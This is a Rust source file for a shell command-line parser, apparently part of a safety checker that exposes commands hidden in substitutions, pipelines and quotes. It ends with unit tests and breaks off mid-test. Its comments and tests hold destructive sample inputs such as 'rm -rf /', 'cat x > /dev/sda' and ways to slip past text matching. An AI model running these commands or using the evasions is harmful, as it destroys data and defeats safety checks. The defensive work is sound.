//! Tokeniser and splitter for shell command lines.
//!
//! Why this exists: a safety check that greps the raw text is easy to slip
//! past (`env rm -rf /`, `; rm`, `$(...)`, quotes) and also cries wolf on data
//! (`echo "rm -rf /"`). This module turns a command line into the simple
//! commands the shell would actually run, each with its words (quotes removed),
//! its redirections and byte spans into the original text. It understands the
//! list and pipeline operators (`;`, `&&`, `||`, `|`, `|&`, `&`, newlines),
//! subshells `( )`, groups `{ }`, function definitions, command substitution
//! `$( )` and backticks, process substitution `<( )`/`>( )`, here-documents
//! and here-strings. Commands found inside substitutions are parsed too and
//! appended to the same [`Script`], so rules see them as ordinary commands.
//!
//! The parser never fails: malformed input (unterminated quotes, stray
//! parentheses) is read as far as it goes. It is a single forward pass, with
//! nesting bounded by [`MAX_DEPTH`], so its cost is linear in the input size.
//! Splitting of `sh -c` / `eval` bodies happens one level up, in `lower.rs`,
//! because it depends on what the program is.

use std::ops::Range;

/// How deeply substitutions, subshells and nested `sh -c` bodies are followed.
pub(crate) const MAX_DEPTH: usize = 12;

/// One shell word after quote removal.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Word {
    /// The word with quotes and backslashes removed. Parameter expansions and
    /// substitutions are kept literally (`$HOME`, `$(curl x)`).
    pub text: String,
    /// Byte range of the word in the parsed source.
    pub span: Range<usize>,
    /// Whether any part of the word was quoted or escaped.
    pub quoted: bool,
    /// Command / process substitutions inside the word.
    pub subs: Vec<Sub>,
    /// Whether the word holds an expansion the shell works out when the line
    /// runs (`$x`, `${x}`, `$( )`, backticks, `$(( ))`), outside single quotes.
    pub dynamic: bool,
}

impl Word {
    /// A synthetic word (for example a `find` root standing in for `{}`).
    pub(crate) fn synthetic(text: &str, span: Range<usize>) -> Word {
        Word {
            text: text.to_string(),
            span,
            quoted: false,
            subs: Vec::new(),
            dynamic: false,
        }
    }
}

/// What an expansion (`$x`, `${x:-y}`, `$( )`) is, for the expansion pass.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum ExpKind {
    /// `$name`, `${name}`, `$1`, `$@`, `${name[@]}`: the name (subscript kept).
    Param(String),
    /// `${name:-word}` / `${name-word}` / `${name:=word}`: the name and the
    /// byte range of `word` in the source.
    Default(String, Range<usize>),
    /// `$( )` or backticks: indices into [`Script::commands`].
    Command(Range<usize>),
    /// Anything else (`${#x}`, `${x/a/b}`, `$(( ))`): not worked out.
    Other,
}

/// One expansion in the source, outside single quotes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Expansion {
    pub span: Range<usize>,
    pub kind: ExpKind,
    /// Inside double quotes (no field splitting).
    pub quoted: bool,
    /// Inside a function body (positional parameters are the call's).
    pub in_function: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum SubKind {
    /// `$( )` or backticks.
    Command,
    /// `<( )`: the word names a file the command reads.
    ProcessIn,
    /// `>( )`: the word names a file the command writes.
    ProcessOut,
}

/// A substitution inside a word; `cmds` indexes [`Script::commands`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Sub {
    pub kind: SubKind,
    pub cmds: Range<usize>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum RedirOp {
    /// `>`, `>|`, `&>`, `>& file`: truncates the target.
    Out,
    /// `>>`, `&>>`.
    Append,
    /// `<`.
    In,
    /// `<>`.
    ReadWrite,
    /// `>&2`, `<&0`, `2>&-`.
    Dup,
    /// `<<EOF`: the target text is the body of the here-document.
    HereDoc,
    /// `<<< word`.
    HereString,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Redirect {
    pub fd: Option<u32>,
    pub op: RedirOp,
    pub target: Word,
    pub span: Range<usize>,
}

impl Redirect {
    /// Whether the redirection writes to its target file.
    pub(crate) fn writes(&self) -> bool {
        matches!(self.op, RedirOp::Out | RedirOp::Append | RedirOp::ReadWrite)
    }
}

/// A simple command: words plus redirections.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct SimpleCommand {
    pub words: Vec<Word>,
    pub redirects: Vec<Redirect>,
    pub span: Range<usize>,
    /// Index into [`Script::pipelines`].
    pub pipeline: usize,
    /// Followed by `&`.
    pub background: bool,
    /// Index into [`Script::functions`] when inside a function body.
    pub function: Option<usize>,
    /// The commands of a `( .. )` or `{ ..; }` group whose output is piped
    /// into this command (`(crontab -l; echo ..) | crontab -`).
    pub fed_by: Option<Range<usize>>,
}

/// Everything found in one command line.
#[derive(Debug, Clone, Default)]
pub(crate) struct Script {
    pub commands: Vec<SimpleCommand>,
    /// Each pipeline lists its commands (indices into `commands`) in order.
    pub pipelines: Vec<Vec<usize>>,
    /// Names of functions defined in the text.
    pub functions: Vec<String>,
    /// Parallel to `functions`: the text of each body and where it is.
    pub function_bodies: Vec<(String, Range<usize>)>,
    /// Parallel to `functions`: whether the line calls it outside its own
    /// body (then its body is judged at each call, with the call's arguments).
    pub called: Vec<bool>,
    /// Aliases the line defines: name, value, and where the definition ends.
    pub aliases: Vec<(String, String, usize)>,
    /// Every `$` expansion and substitution, in the order they end.
    pub expansions: Vec<Expansion>,
    /// Spans of words holding an unquoted brace expansion (`{a,b}`, `{1..3}`).
    pub braces: Vec<Range<usize>>,
}

impl Script {
    /// The command feeding `idx` through a pipe, if any.
    pub(crate) fn pipe_prev(&self, idx: usize) -> Option<usize> {
        let p = self.pipelines.get(self.commands[idx].pipeline)?;
        let pos = p.iter().position(|&c| c == idx)?;
        if pos == 0 {
            None
        } else {
            Some(p[pos - 1])
        }
    }
}

/// Parses `src`; `depth` is the nesting level already used by the caller.
pub(crate) fn parse(src: &str, depth: usize) -> Script {
    let mut p = Parser {
        b: src.as_bytes(),
        i: 0,
        depth,
        script: Script::default(),
        heredoc: None,
        no_newline_from: None,
        pending_fn: None,
        fn_stack: Vec::new(),
        brace_depth: 0,
        brace_starts: Vec::new(),
        last_group: None,
        feed_next: None,
    };
    p.parse_seq(None);
    p.script.mark_called();
    p.script
}

/// Most aliases recorded for one line.
const MAX_ALIASES: usize = 64;

impl Script {
    /// Fills [`Script::called`]: a function is called when a command outside
    /// every body of that name starts with its name.
    fn mark_called(&mut self) {
        self.called = vec![false; self.functions.len()];
        if self.functions.is_empty() {
            return;
        }
        let mut by_name: std::collections::HashMap<&str, Vec<usize>> =
            std::collections::HashMap::new();
        for (i, f) in self.functions.iter().enumerate() {
            by_name.entry(f.as_str()).or_default().push(i);
        }
        for c in &self.commands {
            let Some(first) = c.words.first() else {
                continue;
            };
            let Some(defs) = by_name.get(first.text.as_str()) else {
                continue;
            };
            let inside = c.function.map(|f| self.functions[f].as_str());
            if inside != Some(first.text.as_str()) {
                for &d in defs {
                    self.called[d] = true;
                }
            }
        }
    }

    /// The body of the function a command calls (by its first word), when
    /// the line defines one of that name and the call is not in its body.
    pub(crate) fn called_body(&self, idx: usize) -> Option<&(String, Range<usize>)> {
        let c = &self.commands[idx];
        let name = c.words.first()?.text.as_str();
        if c.function.is_some_and(|f| self.functions[f] == name) {
            return None;
        }
        let at = self.functions.iter().rposition(|f| f == name)?;
        self.function_bodies.get(at).filter(|b| !b.1.is_empty())
    }
}

/// The function name a definition's leading words give (`name` in
/// `name() {..}`, or `function name {..}` / `function name() {..}`).
fn definition_name(words: &[Word]) -> Option<String> {
    match words {
        [w] if !w.quoted => Some(w.text.clone()),
        [k, w] if k.text == "function" && !w.quoted => {
            Some(w.text.trim_end_matches("()").to_string())
        }
        _ => None,
    }
}

#[derive(Default)]
struct Frame {
    words: Vec<Word>,
    redirects: Vec<Redirect>,
    start: usize,
    end: usize,
    pipe: Vec<usize>,
}

impl Frame {
    fn touch(&mut self, span: &Range<usize>) {
        if self.words.is_empty() && self.redirects.is_empty() {
            self.start = span.start;
        }
        self.end = self.end.max(span.end);
    }
}

struct Parser<'s> {
    b: &'s [u8],
    i: usize,
    depth: usize,
    script: Script,
    /// Pending here-document bodies: (newline position, where to resume).
    heredoc: Option<(usize, usize)>,
    /// Position from which no newline exists (saves rescans).
    no_newline_from: Option<usize>,
    pending_fn: Option<usize>,
    /// (function index, brace depth at which its body started, where the
    /// body text starts).
    fn_stack: Vec<(usize, usize, usize)>,
    brace_depth: usize,
    /// For each open `{`: the number of commands before it.
    brace_starts: Vec<usize>,
    /// The last `( .. )` or `{ .. }` group closed: where it ended, its
    /// commands.
    last_group: Option<(usize, Range<usize>)>,
    /// A group piped into the next command parsed at this depth.
    feed_next: Option<(usize, Range<usize>)>,
}

fn is_blank(c: u8) -> bool {
    c == b' ' || c == b'\t' || c == b'\r'
}

fn is_meta(c: u8) -> bool {
    matches!(
        c,
        b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')'
    )
}

impl<'s> Parser<'s> {
    fn peek(&self, off: usize) -> Option<u8> {
        self.b.get(self.i + off).copied()
    }

    fn skip_blanks(&mut self) {
        while self.i < self.b.len() {
            let c = self.b[self.i];
            if is_blank(c) {
                self.i += 1;
            } else if c == b'\\' && self.peek(1) == Some(b'\n') {
                self.i += 2;
            } else {
                break;
            }
        }
    }

    fn end_command(&mut self, f: &mut Frame) {
        if f.words.is_empty() && f.redirects.is_empty() {
            return;
        }
        let idx = self.script.commands.len();
        let fed_by = match self.feed_next.take() {
            Some((depth, range)) if depth == self.depth => Some(range),
            other => {
                self.feed_next = other;
                None
            }
        };
        if f.words.first().is_some_and(|w| w.text == "alias") {
            for w in &f.words[1..] {
                if let Some((name, value)) = w.text.split_once('=') {
                    if self.script.aliases.len() < MAX_ALIASES && !name.is_empty() {
                        self.script
                            .aliases
                            .push((name.to_string(), value.to_string(), f.end));
                    }
                }
            }
        }
        self.script.commands.push(SimpleCommand {
            words: std::mem::take(&mut f.words),
            redirects: std::mem::take(&mut f.redirects),
            span: f.start..f.end,
            pipeline: 0,
            background: false,
            function: self.fn_stack.last().map(|&(f, _, _)| f),
            fed_by,
        });
        f.end = 0;
        f.pipe.push(idx);
    }

    fn end_pipeline(&mut self, f: &mut Frame, background: bool) {
        self.end_command(f);
        if f.pipe.is_empty() {
            return;
        }
        let pi = self.script.pipelines.len();
        for &c in &f.pipe {
            self.script.commands[c].pipeline = pi;
            self.script.commands[c].background = background;
        }
        self.script.pipelines.push(std::mem::take(&mut f.pipe));
    }

    /// Whether a `{` at the current position opens a group or a function
    /// body (after `name ()` or `function name`).
    fn opens_group(&self, f: &Frame) -> bool {
        if f.words.is_empty() {
            return self.brace_alone() || self.pending_fn.is_some();
        }
        f.words.len() == 2
            && f.words[0].text == "function"
            && f.redirects.is_empty()
            && self.brace_alone()
    }

    fn define_function(&mut self, name: String) {
        self.script.functions.push(name);
        self.script.function_bodies.push((String::new(), 0..0));
        self.pending_fn = Some(self.script.functions.len() - 1);
    }

    /// Whether a `{` or `}` at the current position stands alone.
    fn brace_alone(&self) -> bool {
        match self.peek(1) {
            None => true,
            Some(c) => is_meta(c),
        }
    }

    /// Parses a command list until `closer` (`)` or a backtick) or the end.
    fn parse_seq(&mut self, closer: Option<u8>) {
        let mut f = Frame::default();
        loop {
            self.skip_blanks();
            if self.i >= self.b.len() {
                break;
            }
            let c = self.b[self.i];
            match c {
                b'#' if f.words.is_empty() || self.i == 0 || is_meta(self.b[self.i - 1]) => {
                    while self.i < self.b.len() && self.b[self.i] != b'\n' {
                        self.i += 1;
                    }
                }
                b'\n' => {
                    self.end_pipeline(&mut f, false);
                    match self.heredoc {
                        Some((nl, resume)) if nl == self.i => {
                            self.i = resume;
                            self.heredoc = None;
                        }
                        _ => self.i += 1,
                    }
                }
                b';' => {
                    self.end_pipeline(&mut f, false);
                    self.i += 1;
                    while matches!(self.peek(0), Some(b';') | Some(b'&')) {
                        self.i += 1;
                    }
                }
                b'&' => match self.peek(1) {
                    Some(b'&') => {
                        self.end_pipeline(&mut f, false);
                        self.i += 2;
                    }
                    Some(b'>') => self.redirect(&mut f, None, closer),
                    _ => {
                        self.end_pipeline(&mut f, true);
                        self.i += 1;
                    }
                },
                b'|' => {
                    if self.peek(1) == Some(b'|') {
                        self.end_pipeline(&mut f, false);
                        self.i += 2;
                    } else {
                        self.end_command(&mut f);
                        if let Some((end, range)) = self.last_group.take() {
                            if self.b[end.min(self.i)..self.i].iter().all(|&c| is_blank(c)) {
                                self.feed_next = Some((self.depth, range));
                            }
                        }
                        self.i += 1;
                        if self.peek(0) == Some(b'&') {
                            self.i += 1;
                        }
                    }
                }
                b'(' => self.open_paren(&mut f),
                b')' => {
                    self.end_pipeline(&mut f, false);
                    self.i += 1;
                    if closer == Some(b')') {
                        return;
                    }
                }
                b'`' if closer == Some(b'`') => {
                    self.end_pipeline(&mut f, false);
                    self.i += 1;
                    return;
                }
                b'<' | b'>' if self.peek(1) != Some(b'(') => self.redirect(&mut f, None, closer),
                b'{' if self.opens_group(&f) => self.open_brace(&mut f),
                b'}' if f.words.is_empty() && self.brace_alone() => self.close_brace(&mut f),
                b'0'..=b'9' => {
                    let mut j = self.i;
                    while j < self.b.len() && self.b[j].is_ascii_digit() {
                        j += 1;
                    }
                    if matches!(self.b.get(j), Some(b'<') | Some(b'>'))
                        && self.b.get(j + 1) != Some(&b'(')
                    {
                        let fd = std::str::from_utf8(&self.b[self.i..j])
                            .ok()
                            .and_then(|s| s.parse().ok());
                        let start = self.i;
                        self.i = j;
                        self.redirect(&mut f, fd, closer);
                        if let Some(r) = f.redirects.last_mut() {
                            r.span.start = start;
                        }
                        f.start = f.start.min(start);
                    } else {
                        self.push_word(&mut f, closer);
                    }
                }
                _ => self.push_word(&mut f, closer),
            }
        }
        self.end_pipeline(&mut f, false);
    }

    /// `(`: a function definition after `name` / `function name`, or a
    /// subshell whose commands are parsed (and remembered as a group that
    /// may be piped into the next command).
    fn open_paren(&mut self, f: &mut Frame) {
        let mut j = self.i + 1;
        while j < self.b.len() && is_blank(self.b[j]) {
            j += 1;
        }
        let name = definition_name(&f.words);
        if name.is_some() && f.redirects.is_empty() && self.b.get(j) == Some(&b')') {
            // `name () ...`: a function definition.
            f.words.clear();
            self.define_function(name.unwrap_or_default());
            self.i = j + 1;
        } else if self.depth >= MAX_DEPTH {
            self.i += 1;
        } else {
            self.end_pipeline(f, false);
            self.i += 1;
            self.depth += 1;
            let first = self.script.commands.len();
            self.parse_seq(Some(b')'));
            self.last_group = Some((self.i, first..self.script.commands.len()));
            self.depth -= 1;
        }
    }

    /// `{`: a group, or a function's body after `name ()` / `function name`.
    fn open_brace(&mut self, f: &mut Frame) {
        if !f.words.is_empty() {
            // `function name { ... }`
            let name = definition_name(&f.words).unwrap_or_default();
            f.words.clear();
            self.define_function(name);
        }
        self.end_pipeline(f, false);
        if let Some(func) = self.pending_fn.take() {
            self.fn_stack.push((func, self.brace_depth, self.i + 1));
        }
        self.brace_starts.push(self.script.commands.len());
        self.brace_depth += 1;
        self.i += 1;
    }

    /// `}`: ends a group (remembered for a pipe that follows) or a function
    /// body (whose text is kept for its calls).
    fn close_brace(&mut self, f: &mut Frame) {
        self.end_pipeline(f, false);
        self.brace_depth = self.brace_depth.saturating_sub(1);
        if let Some(&(func, d, start)) = self.fn_stack.last() {
            if d >= self.brace_depth {
                self.fn_stack.pop();
                let text = String::from_utf8_lossy(&self.b[start.min(self.i)..self.i]);
                if let Some(slot) = self.script.function_bodies.get_mut(func) {
                    *slot = (text.into_owned(), start..self.i);
                }
            }
        }
        if let Some(first) = self.brace_starts.pop() {
            self.last_group = Some((self.i + 1, first..self.script.commands.len()));
        }
        self.i += 1;
    }

    fn push_word(&mut self, f: &mut Frame, closer: Option<u8>) {
        let before = self.i;
        let w = self.lex_word(closer);
        if self.i == before {
            // Defensive: never loop without progress.
            self.i += 1;
            return;
        }
        if !f.words.is_empty() || !w.text.is_empty() || w.quoted || !w.subs.is_empty() {
            f.touch(&w.span);
            f.words.push(w);
        }
        if !f.words.is_empty() {
            self.pending_fn = None;
        }
    }

    fn redirect(&mut self, f: &mut Frame, fd: Option<u32>, closer: Option<u8>) {
        let start = self.i;
        let rest = &self.b[self.i..];
        let (op, len, strip) = if rest.starts_with(b"&>>") {
            (RedirOp::Append, 3, false)
        } else if rest.starts_with(b"&>") {
            (RedirOp::Out, 2, false)
        } else if rest.starts_with(b">>") {
            (RedirOp::Append, 2, false)
        } else if rest.starts_with(b">|") {
            (RedirOp::Out, 2, false)
        } else if rest.starts_with(b">&") || rest.starts_with(b"<&") {
            // `>&2` duplicates; `>& file` writes both streams to the file.
            let mut j = self.i + 2;
            while j < self.b.len() && is_blank(self.b[j]) {
                j += 1;
            }
            let dup = matches!(self.b.get(j), Some(c) if c.is_ascii_digit() || *c == b'-');
            if dup || rest[0] == b'<' {
                (RedirOp::Dup, 2, false)
            } else {
                (RedirOp::Out, 2, false)
            }
        } else if rest.starts_with(b">") {
            (RedirOp::Out, 1, false)
        } else if rest.starts_with(b"<<<") {
            (RedirOp::HereString, 3, false)
        } else if rest.starts_with(b"<<-") {
            (RedirOp::HereDoc, 3, true)
        } else if rest.starts_with(b"<<") {
            (RedirOp::HereDoc, 2, false)
        } else if rest.starts_with(b"<>") {
            (RedirOp::ReadWrite, 2, false)
        } else {
            (RedirOp::In, 1, false)
        };
        self.i += len;
        self.skip_blanks();
        let mut target = match self.peek(0) {
            Some(c) if !is_meta(c) || (matches!(c, b'<' | b'>') && self.peek(1) == Some(b'(')) => {
                self.lex_word(closer)
            }
            _ => Word {
                span: self.i..self.i,
                ..Word::default()
            },
        };
        if op == RedirOp::HereDoc {
            target.text = self.heredoc_body(&target.text, strip);
        }
        let r = Redirect {
            fd,
            op,
            span: start..target.span.end.max(start + len),
            target,
        };
        f.touch(&r.span);
        f.redirects.push(r);
    }

    /// Finds the body of a here-document whose operator is at the current
    /// position and arranges for the main loop to skip over it.
    fn heredoc_body(&mut self, delim: &str, strip: bool) -> String {
        if self.no_newline_from.is_some_and(|p| p <= self.i) {
            return String::new();
        }
        let nl = match self.b[self.i..].iter().position(|&c| c == b'\n') {
            Some(p) => self.i + p,
            None => {
                self.no_newline_from = Some(self.i);
                return String::new();
            }
        };
        let body_start = match self.heredoc {
            Some((n, resume)) if n == nl => resume,
            _ => nl + 1,
        };
        let mut pos = body_start;
        let mut body_end = self.b.len();
        let mut resume = self.b.len();
        while pos < self.b.len() {
            let line_end = self.b[pos..]
                .iter()
                .position(|&c| c == b'\n')
                .map_or(self.b.len(), |p| pos + p);
            let mut line = &self.b[pos..line_end];
            if strip {
                while line.first() == Some(&b'\t') {
                    line = &line[1..];
                }
            }
            if line == delim.as_bytes() {
                body_end = pos;
                resume = (line_end + 1).min(self.b.len());
                break;
            }
            pos = line_end + 1;
        }
        self.heredoc = Some((nl, resume));
        String::from_utf8_lossy(&self.b[body_start.min(body_end)..body_end]).into_owned()
    }

    /// Skips a balanced `( ... )` starting at the current `(` without parsing.
    fn skip_balanced(&mut self) {
        let mut depth = 0usize;
        while self.i < self.b.len() {
            match self.b[self.i] {
                b'\\' => self.i += 1,
                b'(' => depth += 1,
                b')' => {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        self.i += 1;
                        return;
                    }
                }
                b'\'' => {
                    self.i += 1;
                    while self.i < self.b.len() && self.b[self.i] != b'\'' {
                        self.i += 1;
                    }
                }
                _ => {}
            }
            self.i += 1;
        }
        // A trailing `\` or an unclosed quote may have stepped past the end.
        self.i = self.i.min(self.b.len());
    }

    /// Parses a nested command list (after `$(`, `<(`, `>(` or a backtick).
    fn nested(&mut self, closer: u8, kind: SubKind, subs: &mut Vec<Sub>) {
        let first = self.script.commands.len();
        if self.depth >= MAX_DEPTH {
            if closer == b')' {
                self.i -= 1; // back onto the `(`
                self.skip_balanced();
            } else {
                while self.i < self.b.len() && self.b[self.i] != b'`' {
                    self.i += 1;
                }
                self.i = (self.i + 1).min(self.b.len());
            }
        } else {
            self.depth += 1;
            let saved_fn = self.pending_fn.take();
            self.parse_seq(Some(closer));
            self.pending_fn = saved_fn;
            self.depth -= 1;
        }
        subs.push(Sub {
            kind,
            cmds: first..self.script.commands.len(),
        });
    }

    fn lex_word(&mut self, closer: Option<u8>) -> Word {
        let start = self.i;
        let mut buf: Vec<u8> = Vec::new();
        let mut quoted = false;
        let mut dynamic = false;
        let mut subs = Vec::new();
        // Unquoted `{`, then `,` or `..`, then `}`: a brace expansion.
        let mut brace_open = false;
        let mut brace_list = false;
        let mut brace = false;
        while self.i < self.b.len() {
            let c = self.b[self.i];
            match c {
                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b')' => break,
                b'(' => {
                    if buf.last() == Some(&b'=') || buf.is_empty() {
                        // Array assignment `a=(1 2)`, or a stray `(`: keep literally.
                        let s = self.i;
                        self.skip_balanced();
                        buf.extend_from_slice(&self.b[s..self.i]);
                    } else {
                        break;
                    }
                }
                b'<' | b'>' => {
                    if self.peek(1) == Some(b'(') {
                        let s = self.i;
                        let kind = if c == b'<' {
                            SubKind::ProcessIn
                        } else {
                            SubKind::ProcessOut
                        };
                        self.i += 2;
                        self.nested(b')', kind, &mut subs);
                        buf.extend_from_slice(&self.b[s..self.i]);
                        dynamic = true;
                    } else {
                        break;
                    }
                }
                b'`' => {
                    if closer == Some(b'`') {
                        break;
                    }
                    self.backtick(&mut buf, &mut subs, false);
                    dynamic = true;
                }
                b'\\' => {
                    quoted = true;
                    match self.peek(1) {
                        Some(b'\n') => self.i += 2,
                        Some(n) => {
                            buf.push(n);
                            self.i += 2;
                        }
                        None => self.i += 1,
                    }
                }
                b'\'' => {
                    quoted = true;
                    self.i += 1;
                    let s = self.i;
                    while self.i < self.b.len() && self.b[self.i] != b'\'' {
                        self.i += 1;
                    }
                    buf.extend_from_slice(&self.b[s..self.i]);
                    self.i = (self.i + 1).min(self.b.len());
                }
                b'"' => {
                    quoted = true;
                    self.i += 1;
                    dynamic |= self.lex_dquote(&mut buf, &mut subs);
                }
                b'$' => {
                    if self.peek(1) == Some(b'\'') {
                        quoted = true;
                    }
                    dynamic |= self.lex_dollar(&mut buf, &mut subs, false);
                }
                _ => {
                    match c {
                        b'{' => brace_open = true,
                        b',' if brace_open => brace_list = true,
                        b'.' if brace_open && self.peek(1) == Some(b'.') => brace_list = true,
                        b'}' if brace_list => brace = true,
                        _ => {}
                    }
                    buf.push(c);
                    self.i += 1;
                }
            }
        }
        if brace {
            self.script.braces.push(start..self.i);
        }
        Word {
            text: String::from_utf8_lossy(&buf).into_owned(),
            span: start..self.i,
            quoted,
            subs,
            dynamic,
        }
    }

    /// A backtick substitution starting at the current backtick.
    fn backtick(&mut self, buf: &mut Vec<u8>, subs: &mut Vec<Sub>, quoted: bool) {
        let s = self.i;
        self.i += 1;
        self.nested(b'`', SubKind::Command, subs);
        buf.extend_from_slice(&self.b[s..self.i]);
        let cmds = subs.last().map(|x| x.cmds.clone()).unwrap_or(0..0);
        self.record(s, ExpKind::Command(cmds), quoted);
    }

    fn record(&mut self, start: usize, kind: ExpKind, quoted: bool) {
        self.script.expansions.push(Expansion {
            span: start..self.i,
            kind,
            quoted,
            in_function: !self.fn_stack.is_empty(),
        });
    }

    /// Reads a double-quoted string; the opening quote is already consumed.
    /// Returns whether it held an expansion.
    fn lex_dquote(&mut self, buf: &mut Vec<u8>, subs: &mut Vec<Sub>) -> bool {
        let mut dynamic = false;
        while self.i < self.b.len() {
            let c = self.b[self.i];
            match c {
                b'"' => {
                    self.i += 1;
                    return dynamic;
                }
                b'\\' => match self.peek(1) {
                    Some(b'\n') => self.i += 2,
                    Some(n @ (b'$' | b'`' | b'"' | b'\\')) => {
                        buf.push(n);
                        self.i += 2;
                    }
                    _ => {
                        buf.push(b'\\');
                        self.i += 1;
                    }
                },
                b'$' => dynamic |= self.lex_dollar(buf, subs, true),
                b'`' => {
                    self.backtick(buf, subs, true);
                    dynamic = true;
                }
                _ => {
                    buf.push(c);
                    self.i += 1;
                }
            }
        }
        dynamic
    }

    /// Reads an expansion starting at `$`; returns whether the shell works it
    /// out at run time (everything but `$'..'`, `$".."` and a lone `$`).
    fn lex_dollar(&mut self, buf: &mut Vec<u8>, subs: &mut Vec<Sub>, quoted: bool) -> bool {
        let s = self.i;
        match self.peek(1) {
            Some(b'(') if self.peek(2) == Some(b'(') => {
                // Arithmetic expansion: keep literally.
                self.i += 1;
                self.skip_balanced();
                buf.extend_from_slice(&self.b[s..self.i]);
                self.record(s, ExpKind::Other, quoted);
                true
            }
            Some(b'(') => {
                self.i += 2;
                self.nested(b')', SubKind::Command, subs);
                buf.extend_from_slice(&self.b[s..self.i]);
                let cmds = subs.last().map(|x| x.cmds.clone()).unwrap_or(0..0);
                self.record(s, ExpKind::Command(cmds), quoted);
                true
            }
            Some(b'{') => {
                self.i += 2;
                let mut depth = 1usize;
                while self.i < self.b.len() && depth > 0 {
                    match self.b[self.i] {
                        b'{' => depth += 1,
                        b'}' => depth -= 1,
                        _ => {}
                    }
                    self.i += 1;
                }
                buf.extend_from_slice(&self.b[s..self.i]);
                let kind = braced_param(self.b, s + 2, self.i.saturating_sub(1).max(s + 2));
                self.record(s, kind, quoted);
                true
            }
            Some(b'\'') => {
                self.i += 2;
                self.lex_ansi_c(buf);
                false
            }
            Some(b'"') => {
                self.i += 2;
                self.lex_dquote(buf, subs)
            }
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                let mut j = self.i + 1;
                while j < self.b.len() && (self.b[j].is_ascii_alphanumeric() || self.b[j] == b'_') {
                    j += 1;
                }
                let name = String::from_utf8_lossy(&self.b[s + 1..j]).into_owned();
                buf.extend_from_slice(&self.b[s..j]);
                self.i = j;
                self.record(s, ExpKind::Param(name), quoted);
                true
            }
            Some(c) if c.is_ascii_digit() || b"@*#?$!-".contains(&c) => {
                self.i += 2;
                buf.extend_from_slice(&self.b[s..self.i]);
                self.record(s, ExpKind::Param((c as char).to_string()), quoted);
                true
            }
            _ => {
                buf.push(b'$');
                self.i += 1;
                false
            }
        }
    }

    /// Decodes `$'...'` (ANSI-C quoting); the `$'` is already consumed.
    fn lex_ansi_c(&mut self, buf: &mut Vec<u8>) {
        while self.i < self.b.len() {
            let c = self.b[self.i];
            self.i += 1;
            match c {
                b'\'' => return,
                b'\\' => {
                    let Some(n) = self.peek(0) else { return };
                    self.i += 1;
                    match n {
                        b'n' => buf.push(b'\n'),
                        b't' => buf.push(b'\t'),
                        b'r' => buf.push(b'\r'),
                        b'x' => {
                            let v = self.read_radix(16, 2);
                            buf.push(v.unwrap_or(b'x'));
                        }
                        b'0'..=b'7' => {
                            self.i -= 1;
                            let v = self.read_radix(8, 3);
                            buf.push(v.unwrap_or(b'0'));
                        }
                        other => buf.push(other),
                    }
                }
                _ => buf.push(c),
            }
        }
    }

    fn read_radix(&mut self, radix: u32, max: usize) -> Option<u8> {
        let mut v: u32 = 0;
        let mut n = 0;
        while n < max {
            match self.peek(0).and_then(|c| (c as char).to_digit(radix)) {
                Some(d) => {
                    v = v * radix + d;
                    self.i += 1;
                    n += 1;
                }
                None => break,
            }
        }
        if n == 0 {
            None
        } else {
            Some((v & 0xff) as u8)
        }
    }
}

/// What `${...}` holds, given the bytes between `${` and `}` (`a..z`).
fn braced_param(b: &[u8], a: usize, z: usize) -> ExpKind {
    let inner = &b[a.min(z)..z];
    let mut j = 0;
    match inner.first() {
        Some(c) if c.is_ascii_alphabetic() || *c == b'_' => {
            while j < inner.len() && (inner[j].is_ascii_alphanumeric() || inner[j] == b'_') {
                j += 1;
            }
        }
        Some(c) if c.is_ascii_digit() => {
            while j < inner.len() && inner[j].is_ascii_digit() {
                j += 1;
            }
        }
        Some(c) if b"@*?$!-".contains(c) || (*c == b'#' && inner.len() == 1) => j = 1,
        _ => return ExpKind::Other,
    }
    if inner.get(j) == Some(&b'[') {
        match inner[j..].iter().position(|&c| c == b']') {
            Some(p) => j += p + 1,
            None => return ExpKind::Other,
        }
    }
    let name = String::from_utf8_lossy(&inner[..j]).into_owned();
    let rest = &inner[j..];
    if rest.is_empty() {
        return ExpKind::Param(name);
    }
    for op in [&b":-"[..], b":=", b"-", b"="] {
        if rest.starts_with(op) {
            return ExpKind::Default(name, a + j + op.len()..z);
        }
    }
    ExpKind::Other
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &Script) -> Vec<Vec<String>> {
        s.commands
            .iter()
            .map(|c| c.words.iter().map(|w| w.text.clone()).collect())
            .collect()
    }

    #[test]
    fn splits_on_operators() {
        let s = parse("a 1; b 2 && c || d | e & f\ng", 0);
        assert_eq!(
            words(&s),
            vec![
                vec!["a", "1"],
                vec!["b", "2"],
                vec!["c"],
                vec!["d"],
                vec!["e"],
                vec!["f"],
                vec!["g"]
            ]
        );
        assert_eq!(s.pipe_prev(4), Some(3));
        assert!(s.commands[4].background);
    }

    #[test]
    fn removes_quotes_and_keeps_spans() {
        let src = r#"echo "a b" 'c d' e\ f"#;
        let s = parse(src, 0);
        let c = &s.commands[0];
        assert_eq!(c.words[1].text, "a b");
        assert_eq!(c.words[2].text, "c d");
        assert_eq!(c.words[3].text, "e f");
        assert_eq!(&src[c.words[2].span.clone()], "'c d'");
        assert_eq!(c.span, 0..src.len());
    }

    #[test]
    fn finds_substitutions() {
        let s = parse("echo $(rm -rf /) `id` <(curl x) \"$(whoami)\"", 0);
        let names: Vec<_> = s.commands.iter().map(|c| c.words[0].text.clone()).collect();
        assert!(names.contains(&"rm".to_string()));
        assert!(names.contains(&"id".to_string()));
        assert!(names.contains(&"curl".to_string()));
        assert!(names.contains(&"whoami".to_string()));
        let echo = s
            .commands
            .iter()
            .find(|c| c.words[0].text == "echo")
            .unwrap();
        assert_eq!(echo.words[3].subs[0].kind, SubKind::ProcessIn);
    }

    #[test]
    fn redirections() {
        let s = parse("cat x > /dev/sda 2>&1 >> log < in &> both", 0);
